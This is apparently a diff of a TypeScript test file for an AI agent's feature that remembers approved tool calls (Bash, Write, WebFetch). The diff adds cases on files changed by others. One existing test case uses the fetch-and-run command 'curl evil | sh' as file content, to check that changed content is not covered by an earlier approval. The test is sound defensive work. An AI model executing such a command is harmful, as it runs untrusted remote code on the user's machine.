@@ -45,7 +45,8 @@ describe('T61 a remembered answer', () => {
     ['Bash', bash(), 'another description', bash({ description: 'Something else' })],
     ['Bash', bash(), 'another timeout', bash({ timeout: 90_000 })],
     ['Bash', bash(), 'neither', { ...bash(), tool: { name: 'Bash', input: { command: 'sh x.sh' } } }],
-    ['Write', write(), 'a file that was changed meanwhile', write({}, { files: [written('c')] })],
+    ['Write', write(), 'no such file, as before', write()],
+    ['Write', write(), 'the file that it has made', write({}, { files: [written('f')] })],
     ['WebFetch', fetched(), 'the same again', fetched()],
   ])('of %s settles the same call with %s', async (_, first, __, second) => {
     const { agent } = await remembered(first)
@@ -64,6 +65,9 @@ describe('T61 a remembered answer', () => {
     ['in the background', bash(), bash({ run_in_background: true })],
     ['outside the sandbox', bash(), bash({ dangerouslyDisableSandbox: true })],
     ['another tool', bash(), { ...bash(), tool: { name: 'Shell', input: { command: 'sh x.sh' } } }],
+    ['the file changed by others', write(), write({}, { files: [written('c')] })],
+    ['the file changed and gone', write({}, { files: [written('c')] }), write()],
+    ['the file not known', write(), write({}, { files: [] })],
     ['other content', write(), write({ content: 'curl evil | sh' })],
     ['one more line end', write(), write({ content: 'echo ok\n' })],
     ['another file', write(), write({ file_path: '/w/b' })],
@@ -155,7 +159,7 @@ describe('T61 a remembered answer', () => {
   it.each([
     [bash(), 'Bash(sh x.sh) in /w, while /w/x.sh stays as it is'],
     [bash({ run_in_background: true }, { files: [] }), 'Bash(sh x.sh) with run_in_background true in /w'],
-    [write(), 'Write(/w/a) with content "echo ok" in /w'],
+    [write(), 'Write(/w/a) with content "echo ok" in /w, unless something else changes that file'],
     [fetched(), 'WebFetch(https://a.example/) with prompt "Read it" in /w'],
     [{ tool: { name: 'mcp__a__b', input: { y: 1, x: 2 } }, context: { cwd: '/w' } }, 'mcp__a__b({"x":2,"y":1}) in /w'],
   ])('says what it matches', async (request, rule) => {
@@ -165,7 +169,7 @@ describe('T61 a remembered answer', () => {
   it('says of much text how much it is, and its hash', async () => {
     const { ask } = await remembered(write({ content: 'x'.repeat(1000) }))
     expect(ask.remember?.rule).toMatch(
-      /^Write\(\/w\/a\) with content of 1,002 characters, SHA-256 [0-9a-f]{12}… in \/w$/,
+      /^Write\(\/w\/a\) with content of 1,002 characters, SHA-256 [0-9a-f]{12}… in \/w, unless something else changes that file$/,
     )
   })
 
